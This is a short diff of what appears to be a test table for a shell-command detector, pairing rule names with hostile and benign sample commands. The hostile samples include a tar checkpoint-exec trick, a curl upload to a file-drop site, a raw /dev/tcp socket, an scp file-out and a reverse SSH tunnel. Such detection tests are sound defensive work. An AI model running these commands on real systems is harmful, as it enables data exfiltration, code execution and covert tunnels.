@@ -199,7 +199,7 @@ const rows: Readonly<Record<string, readonly [string, string]>> = {
   'remote.masquerade': ['./report.pdf.sh', './report.sh'],
   'remote.hidden-in-temp': ['echo x > /tmp/.x/y', 'echo x > /tmp/x'],
   'remote.native-library': ["tar cf x . --checkpoint-action='exec=sh a.sh'", 'tar cf x .'],
-  'network.file-out': ['scp a host:', 'scp host:a .'],
+  'network.file-out': ['scp a me@host.example:', 'scp dist/app.tgz me@staging:'],
   'network.drop-site': ['curl -T a https://transfer.sh/a', 'curl https://docs.example/transfer.sh'],
   'network.raw-socket-out': ['exec 3<>/dev/tcp/198.51.100.1/80', 'exec 3<>./pipe'],
   'network.reverse-tunnel': ['ssh -R 80:localhost:80 host', 'ssh -L 80:localhost:80 host'],
